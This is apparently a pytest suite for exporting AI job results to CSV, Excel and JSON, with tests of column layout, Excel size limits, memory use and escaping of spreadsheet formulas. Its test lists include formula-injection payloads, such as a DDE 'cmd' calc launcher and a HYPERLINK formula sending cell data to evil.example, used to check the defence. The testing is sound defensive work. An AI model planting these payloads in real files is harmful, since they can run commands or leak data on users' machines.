"""Results of a job as a file: nothing in it runs, nothing is cut, and a row costs no memory."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import time
import tracemalloc
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from aiops.jobs.results import Format, ResultRow, TooLongForExcel, iter_csv, iter_json, write_results
from aiops.jobs.results.cells import safe_text
from aiops.jobs.sources import FileSource

SCHEMA = {
    "type": "object",
    "additionalProperties": False,
    "properties": {
        "category": {"type": "string"},
        "text": {"type": "string"},
        "score": {"type": "number"},
        "sure": {"type": "boolean"},
        "tags": {"type": "array", "items": {"type": "string"}},
        "sender": {"$ref": "#/$defs/Sender"},
    },
    "$defs": {
        "Sender": {
            "type": "object",
            "additionalProperties": False,
            "properties": {"name": {"type": "string"}, "address": {"type": "object"}},
        }
    },
}

ANSWER = {
    "category": "card",
    "text": "A short one",
    "score": -0.5,
    "sure": True,
    "tags": ["a", "ü"],
    "sender": {"name": "Ada", "address": {"city": "Köln"}},
}

HEADER = [
    "row",
    "key",
    "subject",
    "text",
    "category",
    "answer.text",
    "score",
    "sure",
    "tags",
    "sender.name",
    "sender.address",
    "status",
    "error_kind",
    "error",
    "tokens_in",
    "tokens_out",
    "cost",
]


def succeeded(**changes):
    return ResultRow(
        **{
            "position": 1,
            "key": "7",
            "status": "succeeded",
            "variables": {"subject": "Card", "text": "Where is my card?"},
            "data": ANSWER,
            "text": json.dumps(ANSWER),
            "tokens_in": 120,
            "tokens_out": 30,
            "cost": Decimal("0.000000420"),
            **changes,
        }
    )


def failed(**changes):
    return succeeded(
        position=2,
        key="8",
        status="failed",
        data=None,
        text="",
        error_kind="cut_off",
        error_text="The answer was cut off.",
        cost=None,
        **changes,
    )


def written(rows, format, **options):
    file = io.BytesIO()
    write_results(iter(rows), format, file, **options)
    file.seek(0)
    return file


def as_csv(rows, schema=None):
    return list(csv.reader(io.StringIO(written(rows, "csv", schema=schema).read().decode("utf-8-sig"), newline="")))


def as_sheet(rows, schema=None):
    return [
        list(row)
        for row in load_workbook(written(rows, "xlsx", schema=schema)).worksheets[0].iter_rows(values_only=True)
    ]


def test_csv_has_inputs_then_answer_then_how_it_ended():
    header, first, second = as_csv([succeeded(), failed()], SCHEMA)
    assert header == HEADER
    assert dict(zip(header, first, strict=True)) == {
        "row": "1",
        "key": "7",
        "subject": "Card",
        "text": "Where is my card?",
        "category": "card",
        "answer.text": "A short one",
        "score": "-0.5",
        "sure": "true",
        "tags": '["a", "ü"]',
        "sender.name": "Ada",
        "sender.address": '{"city": "Köln"}',
        "status": "succeeded",
        "error_kind": "",
        "error": "",
        "tokens_in": "120",
        "tokens_out": "30",
        "cost": "0.000000420",
    }
    assert second[4:11] == [""] * 7
    assert second[11:] == ["failed", "cut_off", "The answer was cut off.", "120", "30", ""]


def test_a_workbook_has_the_same_with_numbers_as_numbers():
    header, first, second = as_sheet([succeeded(), failed()], SCHEMA)
    assert header == HEADER
    found = dict(zip(header, first, strict=True))
    assert (found["row"], found["score"], found["sure"], found["cost"]) == (1, -0.5, True, 0.00000042)
    assert found["tags"] == '["a", "ü"]'
    assert second[-1] is None


def test_json_keeps_everything_as_it_is():
    found = json.loads(written([succeeded(), failed()], "json").read())
    assert found[0] == {
        "row": 1,
        "key": "7",
        "variables": {"subject": "Card", "text": "Where is my card?"},
        "status": "succeeded",
        "data": ANSWER,
        "text": json.dumps(ANSWER),
        "error_kind": None,
        "error": None,
        "tokens_in": 120,
        "tokens_out": 30,
        "cost": 0.00000042,
    }
    assert found[1]["data"] is None and found[1]["cost"] is None
    assert json.loads(written([], "json").read()) == []


def test_formulas_stay_as_they_are_in_json():
    assert json.loads("".join(iter_json([succeeded(data="=1+1")])))[0]["data"] == "=1+1"


def test_answers_without_a_schema_stand_in_one_column():
    header, first, *_ = as_csv([succeeded(data=None, text="It is a card.")])
    assert header[2:5] == ["subject", "text", "answer"]
    assert first[4] == "It is a card."


def test_an_answer_that_may_hold_more_than_its_schema_says_is_kept_whole_too():
    open_schema = {"type": "object", "properties": {"category": {"type": "string"}}}
    header, first = as_csv([succeeded(data={"category": "card", "more": 1}, text="")], open_schema)
    assert dict(zip(header, first, strict=True))["answer"] == '{"category": "card", "more": 1}'
    assert dict(zip(header, first, strict=True))["category"] == "card"


def test_no_two_columns_have_one_name():
    header, _ = as_csv([succeeded(variables={"status": "new", "row": 1, "answer": 2, "category": "x"})], SCHEMA)
    assert header[2:7] == ["input.status", "input.row", "input.answer", "category", "answer.category"]
    assert len(set(header)) == len(header)


def test_a_job_without_rows_has_a_header():
    assert as_csv([], SCHEMA)[0][:3] == ["row", "key", "category"]
    assert as_sheet([], SCHEMA)[0][:3] == ["row", "key", "category"]


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\tplain",
    "  =1+1",
    "\n =cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff@x",
    "＝1+1",
    '=HYPERLINK("http://evil.example/"&A1,"ok")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_run_is_made_harmless(text):
    assert safe_text(text) == f"'{text}"
    row = succeeded(variables={text: text}, data={"category": text}, error_text=text, key=text)
    lines = as_csv([row], SCHEMA)
    assert sum(cell.startswith("'") for line in lines for cell in line) == 5
    assert not any(cell == text for line in lines for cell in line)
    sheet = load_workbook(written([row], "xlsx", schema=SCHEMA)).worksheets[0]
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert sum(str(cell.value).startswith("'") for cell in cells) == 5


WITHIN = {
    "hello;=1+41": "hello;'=1+41",
    "a\t=1+41": "a\t'=1+41",
    "a\n=1+41": "a\n'=1+41",
    "a;\n  @SUM(1)": "a;\n  '@SUM(1)",
    'a;"=1+41;b': "a;\"'=1+41;b",
    "a;-cmd|' /C calc'!A0": "a;'-cmd|' /C calc'!A0",
    "a\r\n- SUM(1)": "a\r\n'- SUM(1)",
    "a;\u200b＝1": "a;\u200b'＝1",
    "=1;=2": "'=1;'=2",
    ";=1": ";'=1",
}


@pytest.mark.parametrize(("text", "expected"), WITHIN.items())
def test_text_that_another_separator_would_cut_into_a_formula_is_made_harmless_too(text, expected):
    assert as_csv([succeeded(variables={"t": text})])[1][2] == expected
    in_a_workbook = safe_text(text).replace("\r\n", "\n")
    assert as_sheet([succeeded(variables={"t": text})])[1][2] == in_a_workbook, "it has no separators"


@pytest.mark.parametrize(
    "text",
    ["a=b", "1-2", "'quoted'", "me@example.com", "", "ünï", "a; b", "a, =b", "thanks ;-)", "so:\n- one\n- two", "1;-2"],
)
def test_other_text_is_left_alone(text):
    assert as_csv([succeeded(variables={"t": text})])[1][2] == text


@given(st.text() | st.text(alphabet=";\t\n=-+@\"' (|a"))
def test_whatever_text_comes_it_comes_back_whole_but_for_what_makes_it_harmless(text):
    written = as_csv([succeeded(variables={"t": text})])[1][2]
    assert written.replace("'", "") == text.replace("\x00", "\ufffd").replace("'", "")


@given(st.text(alphabet=";\t\n=@\"' a"), st.sampled_from(";\t"))
def test_no_reader_begins_a_cell_with_a_formula_whatever_its_separator(text, separator):
    lines = "".join(iter_csv([succeeded(variables={"t": text, "u": text}, data=None, text=text)]))
    for cells in csv.reader(io.StringIO(lines.removeprefix("\ufeff"), newline=""), delimiter=separator):
        assert not any(cell.strip().startswith(("=", "@")) for cell in cells)


def test_a_long_text_is_made_harmless_at_once():
    started = time.process_time()
    for text in ("\n" * 400_000, ";" * 400_000, "\n-" * 200_000, "\n- a" * 100_000, ";+" * 200_000):
        written([succeeded(variables={"t": text})], "csv")
    assert time.process_time() - started < 5


@pytest.mark.parametrize("number", [-5, -0.25, 0, 10**14])
def test_numbers_are_no_text(number):
    assert as_csv([succeeded(variables={"n": number})])[1][2] == str(number)
    assert as_sheet([succeeded(variables={"n": number})])[1][2] == number


def test_numbers_that_excel_would_round_stay_whole_as_text():
    assert as_sheet([succeeded(variables={"n": 12345678901234567890})])[1][2] == "12345678901234567890"


def test_nothing_that_a_workbook_cannot_hold_breaks_it():
    text = "a\x00b\x07c\x1fd\uffffe\ud800f\ng_x0041_h"
    assert as_sheet([succeeded(variables={"t": text})])[1][2] == "a�b�c�d�e�f\ng_x005F_x0041_h"
    assert as_csv([succeeded(variables={"t": "a\x00\ud800"})])[1][2] == "a��"


@pytest.mark.parametrize("text", ["x" * 32_768, "😀" * 16_384, "=" + "x" * 32_766])
def test_a_cell_that_excel_would_cut_is_refused_and_kept_by_the_others(text):
    rows = [succeeded(), succeeded(variables={"subject": "s", "text": text})]
    file = io.BytesIO()
    with pytest.raises(TooLongForExcel) as refusal:
        write_results(rows, "xlsx", file)
    assert str(refusal.value) == (
        "Row 3 has 32,768 characters in the column “text”, and Excel keeps 32,767: take the results as CSV or JSON."
    )
    assert file.getvalue() == b""
    assert as_csv(rows)[2][3].removeprefix("'") == text
    assert json.loads(written(rows, "json").read())[1]["variables"]["text"] == text


def test_the_longest_cell_that_excel_keeps_is_written_whole():
    assert as_sheet([succeeded(variables={"t": "x" * 32_767})])[1][2] == "x" * 32_767


def test_a_refused_workbook_leaves_no_file_behind(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with pytest.raises(TooLongForExcel):
        write_results([succeeded(variables={"t": "x" * 40_000})], "xlsx", io.BytesIO())
    assert list(tmp_path.iterdir()) == []


def test_more_columns_than_excel_has_are_refused():
    with pytest.raises(TooLongForExcel, match="have 16,393 columns or more, and Excel keeps 16,384: take them as CSV"):
        write_results([succeeded(variables={f"v{n}": n for n in range(16_384)})], "xlsx", io.BytesIO())


def test_results_can_be_a_source_again():
    found = FileSource(written([succeeded(), failed()], "csv", schema=SCHEMA), name="results.csv")
    assert [row.variables["category"] for row in found.rows()] == ["card", ""]
    found = FileSource(written([succeeded(), failed()], "xlsx", schema=SCHEMA), name="results.xlsx")
    assert [row.variables["score"] for row in found.rows()] == [-0.5, ""]


@pytest.mark.parametrize("format", Format)
def test_memory_does_not_grow_with_the_rows(format, tmp_path):
    def peak(count):
        rows = (succeeded(position=n, variables={"text": "x" * 1000}) for n in range(count))
        with (tmp_path / "out").open("wb") as file:
            tracemalloc.start()
            write_results(rows, format, file, schema=SCHEMA)
            highest = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        return highest

    peak(10)
    assert peak(1500) < peak(150) + 300_000


def test_lines_come_one_by_one():
    def rows():
        yield succeeded()
        yield succeeded()
        raise AssertionError("read ahead")

    lines = iter_csv(rows())
    assert next(lines).startswith('\ufeff"row","key",')
    assert next(lines).startswith('"1","7","Card",')


def test_formats_know_their_content_type():
    assert Format("csv").content_type == "text/csv; charset=utf-8"
    with pytest.raises(ValueError, match="'ods' is not a valid Format"):
        write_results([], "ods", io.BytesIO())


@pytest.mark.office
@pytest.mark.slow
@pytest.mark.parametrize(("format", "separator"), [("csv", ","), ("csv", ";"), ("csv", "\t"), ("xlsx", "")])
def test_a_real_spreadsheet_runs_nothing_whatever_it_takes_for_the_separator(format, separator, tmp_path):
    rows = [succeeded(variables={"t": text, "u": text}) for text in [*FORMULAS, *WITHIN]]
    (tmp_path / f"in.{format}").write_bytes(written(rows, format).read())
    # Its importer's own numbers: separator, quotes, UTF-8, first line, …; the last but one has it evaluate formulas.
    how = [f"--infilter=CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,0,true"] if separator else []
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    told = ["soffice", profile, "--headless", *how, "--convert-to", "fods", "--outdir", tmp_path / "out"]
    subprocess.run([*told, tmp_path / f"in.{format}"], check=True)
    content = (tmp_path / "out/in.fods").read_text().replace("&apos;", "'")
    assert "table:formula" not in content and "'=1+1" in content
